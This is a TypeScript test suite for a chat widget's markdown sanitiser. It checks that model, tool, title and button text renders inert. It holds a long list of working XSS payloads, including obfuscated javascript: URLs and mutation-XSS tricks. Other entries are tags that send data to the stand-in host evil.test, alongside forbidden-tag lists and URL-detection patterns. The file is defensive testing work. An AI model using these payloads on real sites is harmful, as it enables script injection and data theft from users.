// Model and tool text is untrusted: nothing in it may run, nothing in it may make the browser
// reach another host without a click, and nothing in it may borrow the page's styling or ids.
// vitest's jsdom runs scripts and inline event handlers (in the page's own window,
// `jsdom.window`), so anything that slipped through would really set `pwned` there.
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { FakeModel, get, message, nextFrame, settled, toolCall, unmountAll, view } from "./fake-model";
import { renderMarkdown } from "./markdown";
import type { ActionButton, ActionSpec, Thread } from "./types";

const page = (globalThis as unknown as { jsdom: { window: { pwned?: string } } }).jsdom.window;

const PIXEL = "data:image/png;base64,iVBORw0KGgo=";

/** One injection each; the words outside tags are what must still be readable. */
const VECTORS = [
  // Scripts and handlers.
  `<script>window.pwned = "script"</script>`,
  `<img src=x onerror="window.pwned='img'">`,
  `<svg onload="window.pwned='svg'"><circle r="5"/></svg>`,
  `<div onclick="window.pwned='click'" onmouseover="window.pwned='hover'">hover</div>`,
  `<details open ontoggle="window.pwned='toggle'">toggled</details>`,
  `<marquee onstart="window.pwned='marquee'">scrolling</marquee>`,
  `<body onload="window.pwned='body'">bodytext</body>`,
  `<frameset onload="window.pwned='frameset'"><frame src="https://evil.test/frame"></frameset>`,
  `<input autofocus onfocus="window.pwned='focus'" value="focused">`,
  `<select autofocus onfocus="window.pwned='select'"><option>choice</option></select>`,
  `<keygen autofocus onfocus="window.pwned='keygen'">`,
  `<img src="x:x" onerror="window.pwned='scheme'">`,
  // Script URLs.
  `[click me](javascript:window.pwned='md-link')`,
  `<a href="javascript:window.pwned='a'">link</a>`,
  `<a href=" JaVaScRiPt:window.pwned='spaced'">spaced</a>`,
  `<a href="&#106;avascript:window.pwned='entity'">entity</a>`,
  `<a href="jav&#x09;ascript:window.pwned='tab'">tabbed</a>`,
  `<a href="javascript&colon;window.pwned='colon'">colon</a>`,
  `<a href="vbscript:msgbox(1)">vbs</a>`,
  `[data link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
  `<javascript:window.pwned='autolink'>`,
  `<math><mi xlink:href="javascript:window.pwned='math'">m</mi></math>`,
  `<svg><a xlink:href="javascript:window.pwned='svg-a'"><text>svgtext</text></a></svg>`,
  // Other documents and forms.
  `<iframe src="javascript:window.pwned='iframe'"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned='srcdoc'</script>"></iframe>`,
  `<iframe src="https://evil.test/frame"></iframe>`,
  `<object data="javascript:window.pwned='object'"></object>`,
  `<object data="https://evil.test/x.swf" type="application/x-shockwave-flash">objecttext</object>`,
  `<object data="data:text/html,<script>parent.pwned='object-data'</script>"></object>`,
  `<embed src="javascript:window.pwned='embed'">`,
  `<embed src="https://evil.test/x.swf">`,
  `<applet code="X" codebase="https://evil.test/">applettext</applet>`,
  `<form action="javascript:window.pwned='form'"><button>go</button></form>`,
  `<form action="https://evil.test/submit"><input name="q" value="secret"></form>`,
  `<button formaction="https://evil.test/formaction">submitter</button>`,
  `<isindex action="https://evil.test/isindex" prompt="indexed">`,
  `<portal src="https://evil.test/portal"></portal>`,
  // Requests with no click: media, backgrounds, candidates, prefetches, refreshes.
  `<video poster="https://evil.test/poster.png">videofallback</video>`,
  `<video autoplay><source src="https://evil.test/v.mp4"><track src="https://evil.test/t.vtt">sourcefallback</video>`,
  `<audio src="https://evil.test/a.mp3" autoplay>audiofallback</audio>`,
  `<table background="https://evil.test/t.png"><tr><td background="https://evil.test/td.png">cell</td><th background="//evil.test/th.png">heading</th></tr></table>`,
  `<picture><source srcset="https://evil.test/p.png"><img src="${PIXEL}" alt="pictured"></picture>`,
  `<img srcset="https://evil.test/1x.png 1x, https://evil.test/2x.png 2x" src="${PIXEL}" alt="candidates">`,
  `<img src="${PIXEL}" longdesc="https://evil.test/ld" lowsrc="https://evil.test/lo" dynsrc="https://evil.test/dy" usemap="#m">`,
  `<input type="image" src="https://evil.test/i.png">`,
  `<image src="https://evil.test/image-tag.png">`,
  `<img src="//evil.test/protocol-relative.png" alt="relative">`,
  `<img src="  https://evil.test/spaced.png" alt="spacedimg">`,
  `<img src="https:&#x2F;&#x2F;evil.test/encoded.png" alt="encodedimg">`,
  `<bgsound src="https://evil.test/b.mid">`,
  `<link rel="prefetch" href="https://evil.test/prefetch">`,
  `<link rel="stylesheet" href="https://evil.test/s.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
  `<base href="https://evil.test/">`,
  `<svg><image href="https://evil.test/svg.png"/><use href="https://evil.test/u.svg#x"/></svg>`,
  `<math><maction actiontype="statusline" xlink:href="https://evil.test/m">mathtext</maction></math>`,
  `<blockquote cite="https://evil.test/cite">quoted</blockquote>`,
  `<a href="https://example.com/docs" ping="https://evil.test/ping">pinged</a>`,
  `<p title="https://evil.test/title" data-x="https://evil.test/data">titled</p>`,
  `<area href="https://evil.test/area"><map name="m"></map>`,
  // Markdown images, inline and by reference.
  `![tracking pixel](https://evil.test/md.png?secret=42)`,
  `![by reference][px]\n\n[px]: https://evil.test/ref.png`,
  `<https://evil.test/auto> and www.evil.test/www`,
  // CSS that would load or restyle.
  `<style>body { display: none }</style>`,
  `<p style="background: url(https://evil.test/css.png)">styled</p>`,
  `<svg><style>@import url(https://evil.test/svg.css);</style></svg>`,
  // Mutation XSS and inert containers.
  `<noscript><p title="</noscript><img src=x onerror=window.pwned='noscript'>">`,
  `<svg><style><img src=x onerror=window.pwned='svg-style'></style></svg>`,
  `<template><img src=x onerror=window.pwned='template'></template>`,
  `<xmp><img src=x onerror=window.pwned='xmp'></xmp>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.pwned='mglyph'></style></mglyph></table></mtext></math>`,
  // The page's styling, ids and overlays.
  `<div class="jp-Dialog cw-approval-card lm-Widget" id="cw-composer" name="x">classy</div>`,
  `<a id="location" name="cookie" href="https://example.com/">clobber</a>`,
  `<dialog open>overlay</dialog>`,
  `<a href="https://example.com/" target="_top" rel="opener">opener</a>`,
  // Code is text.
  "```html\n<script>window.pwned='fenced'</script>\n```",
  "`<img src=x onerror=window.pwned='span'>`",
];

const PAYLOADS = VECTORS.join("\n\n");

/** Words outside the tags: the sanitiser keeps the text it can. */
const HARMLESS = [
  "click me",
  "hover",
  "toggled",
  "scrolling",
  "bodytext",
  "choice",
  "cell",
  "heading",
  "quoted",
  "pinged",
  "titled",
  "styled",
  "classy",
  "[image: tracking pixel]",
  "[image: by reference]",
];

// Every element the page could load, embed, submit or run from.
const FORBIDDEN_TAGS =
  "script, iframe, frame, frameset, object, embed, applet, form, svg, math, style, link, meta, base, " +
  "video, audio, source, track, picture, template, dialog, portal, bgsound, isindex";
// Attributes whose URL the browser fetches (or sends to) by itself. Only a[href] (a click)
// may hold anything but a data: URL.
const URL_ATTRIBUTES = [
  "href",
  "src",
  "srcset",
  "imagesrcset",
  "poster",
  "background",
  "action",
  "formaction",
  "data",
  "ping",
  "cite",
  "longdesc",
  "lowsrc",
  "dynsrc",
  "xlink:href",
  "codebase",
  "archive",
  "classid",
  "manifest",
  "icon",
  "profile",
  "usemap",
];
// What reads as a URL in any attribute of sanitised markdown.
const LOOKS_LIKE_URL =
  /^(?:\/\/|\\\\|[a-z][a-z\d+.-]*:\/\/|(?:https?|ftps?|wss?|file|blob|javascript|vbscript|mhtml):)/i;
// The classes the code renderer emits, and those our own code adds after sanitising.
const OWN_CLASS = /^(?:hljs(?:-[\w-]+)?|language-[\w-]+|[a-z][a-z\d]*_+|cw-code|cw-copy|cw-image-link)$/;

// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it finds.
const bare = (value: string) => value.replace(/[\s\u0000-\u001f]/g, "").toLowerCase();

/** Everything the sanitiser must guarantee about `root` (and the widget around it). */
function expectInert(root: ParentNode): void {
  expect([...root.querySelectorAll(FORBIDDEN_TAGS)].map((node) => node.tagName)).toEqual([]);
  for (const node of root.querySelectorAll("*")) {
    const tag = node.tagName.toLowerCase();
    for (const attribute of node.attributes) {
      const name = attribute.name.toLowerCase();
      const where = `<${tag} ${name}="${attribute.value}">`;
      expect(name.startsWith("on"), where).toBe(false);
      if (tag === "a" && name === "href") {
        expect(bare(attribute.value), where).not.toMatch(/^(?:javascript|vbscript|data):/);
      } else if (URL_ATTRIBUTES.includes(name) && attribute.value !== "") {
        expect(bare(attribute.value), where).toMatch(/^data:/);
      }
    }
  }
  const bodies = [...root.querySelectorAll(".cw-message-body")];
  if (root instanceof Element && root.matches(".cw-message-body")) bodies.push(root);
  for (const body of bodies) expectSanitised(body);
}

/** What sanitised markdown may not keep: the page's classes, ids, names, styles, any URL. */
function expectSanitised(body: Element): void {
  for (const node of body.querySelectorAll("*")) {
    const tag = node.tagName.toLowerCase();
    for (const attribute of node.attributes) {
      const name = attribute.name.toLowerCase();
      const where = `<${tag} ${name}="${attribute.value}">`;
      expect(["id", "name", "style", "srcdoc"], where).not.toContain(name);
      if (name === "class") {
        for (const token of attribute.value.split(/\s+/).filter(Boolean))
          expect(token, where).toMatch(OWN_CLASS);
      } else if (!(tag === "a" && name === "href")) {
        expect(bare(attribute.value), where).not.toMatch(LOOKS_LIKE_URL);
      }
    }
  }
}

/** Fires the events the payloads hook into on every element, and clicks every link. */
async function poke(root: ParentNode): Promise<void> {
  for (const node of root.querySelectorAll("*")) {
    for (const type of ["load", "error", "click", "mouseover", "toggle", "focus", "start"]) {
      node.dispatchEvent(new Event(type, { bubbles: false }));
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 10));
}

/** Checks `el` and pokes it: inert before and after. */
async function expectSafe(el: HTMLElement): Promise<void> {
  expectInert(el);
  await poke(el);
  expectInert(el);
}

function markdownHost(text: string): HTMLElement {
  const host = document.createElement("div");
  host.className = "cw-message-body";
  host.append(renderMarkdown(text));
  return host;
}

beforeEach(() => {
  page.pwned = undefined;
});
afterEach(async () => {
  await unmountAll();
  // Nothing may have escaped into the page either.
  expectInert(document);
  expect(page.pwned).toBeUndefined();
});

describe("the checks", () => {
  it("detect a handler that runs (so the checks below can fail)", async () => {
    const control = document.createElement("div");
    control.innerHTML = `<div onclick="window.pwned='control'"></div>`;
    await poke(control);
    expect(page.pwned).toBe("control");
    page.pwned = undefined;
  });

  it("catch a remote URL, a media element, a borrowed class and an id", () => {
    const unsafe = [
      `<video poster="https://evil.test/p.png"></video>`,
      `<p><span background="https://evil.test/b.png">x</span></p>`,
      `<p><img src="//evil.test/x.png"></p>`,
      `<p><a href="https://example.com" ping="https://evil.test/"></a></p>`,
      `<p><span class="jp-Dialog">x</span></p>`,
      `<p><span id="x">x</span></p>`,
      `<p><span title="https://evil.test/">x</span></p>`,
    ];
    for (const html of unsafe) {
      const host = document.createElement("div");
      host.className = "cw-message-body";
      host.innerHTML = html;
      expect(() => expectInert(host), html).toThrow();
    }
  });

  it("has enough distinct vectors", () => {
    expect(new Set(VECTORS).size).toBe(VECTORS.length);
    expect(VECTORS.length).toBeGreaterThanOrEqual(50);
  });
});

describe("sanitising markdown", () => {
  it.each(VECTORS.map((vector, index) => [index, vector]))("renders vector %i inert", async (_, vector) => {
    await expectSafe(markdownHost(vector as string));
  });

  it("renders all of them inert together, and keeps the harmless words", async () => {
    const host = markdownHost(PAYLOADS);
    await expectSafe(host);
    for (const word of HARMLESS) expect(host.textContent).toContain(word);
  });

  it("keeps the classes of highlighted code", () => {
    const host = markdownHost("```python\ndef f():\n    return 'x'\n```");
    expect(host.querySelector("code")?.className).toBe("hljs language-python");
    expect(host.querySelector(".hljs-keyword")?.textContent).toBe("def");
    expect(host.querySelector(".hljs-title.function_")?.textContent).toBe("f");
    expectInert(host);
  });

  it("drops the page's classes and ids, keeping the text", () => {
    const host = markdownHost(`<p class="jp-Dialog hljs-string" id="cw-composer" name="n">kept</p>`);
    const p = host.querySelector("p") as HTMLElement;
    expect(p.className).toBe("hljs-string");
    expect(p.hasAttribute("id")).toBe(false);
    expect(p.hasAttribute("name")).toBe(false);
    expect(p.textContent).toBe("kept");
  });

  it("opens safe links in a new tab without access to the notebook, and without pings", () => {
    const host = markdownHost(
      "[docs](https://example.com/docs) and <a href='https://x.test' ping='https://evil.test/'>x</a>",
    );
    const links = [...host.querySelectorAll("a")];
    expect(links).toHaveLength(2);
    for (const link of links) {
      expect(link.getAttribute("target")).toBe("_blank");
      expect(link.getAttribute("rel")).toBe("noopener noreferrer");
      expect(link.hasAttribute("ping")).toBe(false);
    }
    expect(links[0].getAttribute("href")).toBe("https://example.com/docs");
  });

  it("never loads a remote image by itself (no data leaks through image URLs)", () => {
    const host = markdownHost(
      "![chart](https://evil.test/leak?secret=42) <img src='http://evil.test/x.png' alt='x'> " +
        `![dot](${PIXEL}) <img src="//evil.test/y.png" alt="y"> <img src="data:text/html,x" alt="z">`,
    );
    const images = [...host.querySelectorAll("img")];
    expect(images.map((img) => img.getAttribute("src"))).toEqual([PIXEL]);
    const links = [...host.querySelectorAll("a.cw-image-link")];
    expect(links.map((a) => a.textContent)).toEqual(["[image: chart]", "[image: x]", "[image: y]"]);
    expect(links[0].getAttribute("href")).toBe("https://evil.test/leak?secret=42");
    expect(host.textContent).toContain("[image: z]");
  });

  it("keeps no media element that could load by itself, only its fallback text", () => {
    const host = markdownHost(
      `<video poster="https://evil.test/p.png" src="https://evil.test/v.mp4"></video>` +
        `<picture><source srcset="https://evil.test/p.png"><img src="${PIXEL}" alt="pic"></picture>`,
    );
    expect(host.querySelectorAll("video, picture, source")).toHaveLength(0);
    const img = host.querySelector("img") as HTMLImageElement;
    expect(img.getAttribute("src")).toBe(PIXEL);
    expect(img.hasAttribute("srcset")).toBe(false);
  });
});

describe("every place model and tool text reaches the page", () => {
  it("finished assistant and user messages", async () => {
    const el = await view(
      new FakeModel({ messages: [message("user", PAYLOADS), message("assistant", PAYLOADS)] }),
    );
    await expectSafe(el);
    // The user's own text is shown as typed.
    expect(el.querySelector('[data-role="user"] .cw-message-body')?.textContent).toBe(PAYLOADS);
    const answer = el.querySelector('[data-role="assistant"]')?.textContent;
    for (const word of HARMLESS) expect(answer).toContain(word);
  });

  it("old messages whose markdown is rendered later, when the browser is idle", async () => {
    const messages = VECTORS.flatMap((vector) => [message("user", "next"), message("assistant", vector)]);
    const el = await view(new FakeModel({ messages }));
    expectInert(el);
    // Shown as plain text first, then rendered a few at a time.
    for (let i = 0; i < 200 && el.querySelector(".cw-plain") !== null; i++) await settled();
    expect(el.querySelector(".cw-plain")).toBeNull();
    await expectSafe(el);
    for (const word of HARMLESS) expect(el.textContent).toContain(word);
  });

  it("streamed text, cut mid-tag", async () => {
    const model = new FakeModel({ status: "working" });
    const el = await view(model);
    const draft = message("assistant", "", { status: "in_progress" });
    model.receive({ kind: "draft", message: draft });
    // Split mid-tag so no single delta holds a whole payload; check between frames too.
    for (let i = 0; i < PAYLOADS.length; i += 7) {
      model.receive({ kind: "delta", message_id: draft.id, text: PAYLOADS.slice(i, i + 7) });
      if (i % 700 === 0) {
        await nextFrame();
        expectInert(el);
      }
    }
    // A long draft is drawn a little later than the next frame (scheduleDraft spaces out slow
    // renders): wait until it shows everything.
    await vi.waitFor(() => {
      const shown = el.querySelector('[data-testid="draft"]')?.textContent;
      for (const word of HARMLESS) expect(shown).toContain(word);
    });
    await expectSafe(el);
  });

  it("tool names, arguments, results and errors", async () => {
    const calls = [
      toolCall({ name: `<img src=x onerror="window.pwned='name'">`, arguments: PAYLOADS, result: PAYLOADS }),
      toolCall({
        id: "call_2",
        name: VECTORS[2],
        status: "failed",
        arguments: JSON.stringify({ html: PAYLOADS }),
        result: JSON.stringify(PAYLOADS),
        error: PAYLOADS,
      }),
    ];
    const model = new FakeModel({ messages: [message("assistant", "", { tool_calls: calls })] });
    const el = await view(model);
    await expectSafe(el);
    const cards = el.querySelectorAll('[data-testid="tool-call"]');
    expect(cards[0].querySelector(".cw-tool-result")?.textContent).toBe(PAYLOADS);
    expect(cards[1].querySelector(".cw-tool-error")?.textContent).toBe(PAYLOADS);
    expect(cards[1].querySelector(".cw-tool-result")?.textContent).toBe(PAYLOADS);
    expect(cards[1].querySelector(".cw-tool-arguments")?.textContent).toContain("<script>");
    expect(cards[1].textContent).toContain(VECTORS[2]);
  });

  it("streamed tool arguments", async () => {
    const model = new FakeModel({ status: "working" });
    const el = await view(model);
    const draft = message("assistant", "", { status: "in_progress" });
    model.receive({ kind: "draft", message: draft });
    model.receive({
      kind: "delta",
      message_id: draft.id,
      tool_calls: [{ index: 0, id: "call_1", name: VECTORS[1], arguments: PAYLOADS }],
    });
    await nextFrame();
    await expectSafe(el);
    expect(el.querySelector(".cw-tool-arguments")?.textContent).toBe(PAYLOADS);
  });

  it("the approval card: action name, description, parameters and arguments", async () => {
    const name = `<img src=x onerror="window.pwned='action-name'">`;
    const spec: ActionSpec = {
      name,
      description: PAYLOADS,
      parameters: {
        type: "object",
        properties: Object.fromEntries(
          VECTORS.slice(0, 10).map((vector) => [vector, { type: "string", description: vector }]),
        ),
        required: [VECTORS[0]],
      },
      kind: "backend",
      available: "enabled",
      confirm: true,
      paired_action: null,
    };
    const model = new FakeModel({ status: "requires_action", action_specs: [spec] });
    const el = await view(model);
    const call = toolCall({
      id: "call_x",
      name,
      status: "requires_action",
      arguments: JSON.stringify(Object.fromEntries(VECTORS.map((vector, i) => [`arg${i}`, vector]))),
    });
    model.receive({
      kind: "draft",
      message: message("assistant", PAYLOADS, { status: "in_progress", tool_calls: [call] }),
    });
    await nextFrame();
    const card = get(el, "approval-card");
    expect(get(card, "approval-action").textContent).toBe(name);
    expect(get(card, "approval-description").textContent).toBe(PAYLOADS);
    expect(get<HTMLTextAreaElement>(card, "approval-arguments").value).toContain("<script>");
    expect(card.textContent).toContain(VECTORS[9]);
    await expectSafe(el);
    // A refusal of the decision is text too.
    get(card, "approve-button").click();
    await model.refuse("approve", PAYLOADS);
    expect(get(card, "refusal-notice").textContent).toContain("<script>");
    await expectSafe(el);
  });

  it("thread titles in the picker", async () => {
    const threads: Thread[] = VECTORS.map((title, i) => ({
      id: `thread_${i}`,
      object: "thread",
      title,
      created_at: i,
    }));
    const el = await view(new FakeModel({ thread: threads[1], threads }));
    const picker = get<HTMLSelectElement>(el, "thread-picker");
    expect([...picker.options].map((option) => option.textContent)).toEqual(VECTORS.map((v) => v.trim()));
    await expectSafe(el);
  });

  it("suggestions", async () => {
    const model = new FakeModel({ suggestions: VECTORS });
    const el = await view(model);
    const chips = [...el.querySelectorAll('[data-testid="suggestion"]')];
    expect(chips.map((chip) => chip.textContent)).toEqual(VECTORS);
    await expectSafe(el);
    // Why one was refused is text too.
    (chips[0] as HTMLElement).click();
    await model.refuse("send", PAYLOADS);
    await expectSafe(el);
  });

  it("action buttons: labels, actions, arguments and replies, and why a click was refused", async () => {
    const buttons: ActionButton[] = VECTORS.map((vector, i) => ({
      id: `btn_${i}`,
      label: vector,
      action: i % 2 === 0 ? vector : null,
      arguments: i % 2 === 0 ? { [vector]: vector, html: PAYLOADS } : null,
      reply: i % 2 === 0 ? null : `${vector} reply`,
    }));
    const model = new FakeModel({
      messages: [message("user", "hi"), message("assistant", "pick", { buttons })],
    });
    const el = await view(model);
    const shown = [...el.querySelectorAll<HTMLElement>('[data-testid="action-button"]')];
    expect(shown.map((b) => b.querySelector('[data-testid="action-button-label"]')?.textContent)).toEqual(
      VECTORS,
    );
    expect(shown[0].querySelector('[data-testid="action-button-runs"]')?.textContent).toContain("<script>");
    await expectSafe(el);
    shown[1].click();
    await model.refuse("click_button", PAYLOADS);
    const row = shown[1].closest('[data-testid="action-buttons"]') as HTMLElement;
    expect(get(row, "refusal-notice").textContent).toBe(PAYLOADS);
    await expectSafe(el);
  });

  it("the error banner and the setup card", async () => {
    const model = new FakeModel({ error: { type: "server_error", message: PAYLOADS, retryable: true } });
    const el = await view(model);
    expect(get(el, "error-banner").textContent).toContain(PAYLOADS);
    await expectSafe(el);
    model.set("needs_setup", true);
    model.set("error", { type: "authentication_error", message: PAYLOADS, retryable: false });
    await expectSafe(el);
  });

  it("the title and the store warning", async () => {
    const el = await view(new FakeModel({ title: VECTORS[1], store_warning: PAYLOADS }));
    expect(el.textContent).toContain(VECTORS[1]);
    await expectSafe(el);
  });
});
